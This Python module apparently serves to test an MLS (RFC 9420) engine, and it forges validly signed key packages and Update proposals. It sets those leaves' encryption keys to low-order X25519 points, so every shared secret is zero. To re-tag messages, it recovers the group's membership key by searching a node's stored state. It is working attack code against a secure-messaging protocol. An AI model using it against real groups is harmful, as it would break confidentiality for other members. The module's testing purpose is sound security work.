"""MLS structures that no library makes: validly signed ones with keys to which nothing can be encrypted.

An attacker has a leaf key and what its own node has stored, and writes the bytes itself (RFC 9420 §6, §7.2, §10, §12).
"""

from __future__ import annotations

import hmac
from collections.abc import Iterable
from dataclasses import dataclass, replace

from demls_engine import Engine, MlsGroup

LOW_ORDER = tuple(
    bytes.fromhex(key)
    for key in (
        "00" * 32,
        "01" + "00" * 31,
        "e0eb7a7c3b41b8ae1656e3faf19fc46ada098deb9c32b1fd866205165f49b800",
        "5f9c95bca3508c24b1d0b1559c83ef5b04445cc4581c8e86d8224eddd09f1157",
        "ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f",
        "edffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f",
        "eeffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f",
        "00" * 31 + "80",
    )
)
"""X25519 keys with which every shared secret is zero: the points of low order on the curve and on its twist, in the
encodings of less than 32 bytes, of all of them, and with the bit that X25519 ignores."""

_MLS_1_0, _PUBLIC_MESSAGE = b"\0\1", b"\0\1"
_SUITE = b"\0\1"
_KEY_PACKAGE, _COMMIT = 1, 3
"""Sources of leaf nodes that say more than that they are one."""
_REQUIRED_CAPABILITIES = 3


class _Reader:
    """Structures in the presentation language of TLS, from the left."""

    def __init__(self, encoded: bytes) -> None:
        self.rest = encoded

    def take(self, count: int) -> bytes:
        taken, self.rest = self.rest[:count], self.rest[count:]
        assert len(taken) == count
        return taken

    def vector(self) -> bytes:
        width = 1 << (self.rest[0] >> 6)
        size = int.from_bytes(self.take(width), "big") & ((1 << (8 * width - 2)) - 1)
        return self.take(size)


def _vector(content: bytes) -> bytes:
    size = len(content)
    if size < 1 << 6:
        return bytes([size]) + content
    assert size < 1 << 14
    return (size | 1 << 14).to_bytes(2, "big") + content


@dataclass(frozen=True)
class _Leaf:
    encryption_key: bytes
    middle: bytes
    """From the signature key to the extensions, encoded."""
    signature: bytes

    @classmethod
    def read(cls, reader: _Reader) -> _Leaf:
        encryption_key = reader.vector()
        before = reader.rest
        reader.vector()
        reader.take(2)
        reader.vector()
        for _ in range(5):
            reader.vector()
        source = reader.take(1)[0]
        if source == _KEY_PACKAGE:
            reader.take(16)
        elif source == _COMMIT:
            reader.vector()
        reader.vector()
        return cls(encryption_key, before[: len(before) - len(reader.rest)], reader.vector())

    @property
    def content(self) -> bytes:
        return _vector(self.encryption_key) + self.middle

    @property
    def encoded(self) -> bytes:
        return self.content + _vector(self.signature)


def forge_key_package(
    engine: Engine,
    private: bytes,
    package: bytes,
    *,
    init_key: bytes | None = None,
    encryption_key: bytes | None = None,
) -> bytes:
    """The same key package with other keys, signed by its leaf key ``private``."""
    reader = _Reader(package)
    head, old_init_key = reader.take(4), reader.vector()
    leaf, extensions = _Leaf.read(reader), reader.vector()
    if encryption_key is not None:
        leaf = replace(leaf, encryption_key=encryption_key)
        leaf = replace(leaf, signature=engine.sign(private, "LeafNodeTBS", leaf.content))
    content = head + _vector(old_init_key if init_key is None else init_key) + leaf.encoded + _vector(extensions)
    return content + _vector(engine.sign(private, "KeyPackageTBS", content))


def forge_update(engine: Engine, private: bytes, group: MlsGroup, encryption_key: bytes) -> bytes:
    """An Update of the own leaf, with the leaf key ``private``, that renews the encryption key to this one."""
    true, _ = group.propose_update()
    reader = _Reader(true)
    assert reader.take(4) == _MLS_1_0 + _PUBLIC_MESSAGE
    reader.vector()
    reader.take(8 + 1 + 4)
    reader.vector()
    reader.take(1 + 2)
    head = true[4 : len(true) - len(reader.rest)]
    leaf, signature, tag = _Leaf.read(reader), reader.vector(), reader.vector()

    context = _group_context(group)
    key = _membership_key(group.snapshot().values(), head + leaf.encoded, signature, context, tag)
    assert engine.sign(private, "FramedContentTBS", _signed(head + leaf.encoded, context)) == signature

    leaf = replace(leaf, encryption_key=encryption_key)
    place = _vector(group.group_id) + group.own_leaf.to_bytes(4, "big")
    leaf = replace(leaf, signature=engine.sign(private, "LeafNodeTBS", leaf.content + place))
    content = head + leaf.encoded
    signature = engine.sign(private, "FramedContentTBS", _signed(content, context))
    tag = _membership_tag(key, content, signature, context)
    return _MLS_1_0 + _PUBLIC_MESSAGE + content + _vector(signature) + _vector(tag)


def _signed(content: bytes, context: bytes) -> bytes:
    return _MLS_1_0 + _PUBLIC_MESSAGE + content + context


def _membership_tag(key: bytes, content: bytes, signature: bytes, context: bytes) -> bytes:
    return hmac.digest(key, _signed(content, context) + _vector(signature), "sha256")


def _membership_key(stored: Iterable[bytes], content: bytes, signature: bytes, context: bytes, tag: bytes) -> bytes:
    """Found among what the node has stored, by what it does."""
    return next(
        value[start : start + 32]
        for value in stored
        for start in range(len(value) - 31)
        if _membership_tag(value[start : start + 32], content, signature, context) == tag
    )


def _group_context(group: MlsGroup) -> bytes:
    """The encoded GroupContext: its two hashes stand in the stored state behind the group's id and the epoch."""
    extensions = group.context_extensions()
    epoch, mark = group.epoch, len(group.group_id).to_bytes(1, "big") + group.group_id
    assert epoch < 1 << 7
    stored = next(value for key, value in group.snapshot().items() if key.startswith(b"\x07context"))
    reader = _Reader(stored[stored.index(mark) + len(mark) :])
    assert reader.take(1)[0] == epoch
    tree_hash, transcript_hash = reader.vector(), reader.vector()
    types = b"".join(number.to_bytes(2, "big") for number in sorted(extensions))
    required = _vector(types) + _vector(b"") + _vector(b"")
    listed = [(_REQUIRED_CAPABILITIES, required), *sorted(extensions.items())]
    return (
        _MLS_1_0
        + _SUITE
        + _vector(group.group_id)
        + epoch.to_bytes(8, "big")
        + _vector(tree_hash)
        + _vector(transcript_hash)
        + _vector(b"".join(number.to_bytes(2, "big") + _vector(content) for number, content in listed))
    )
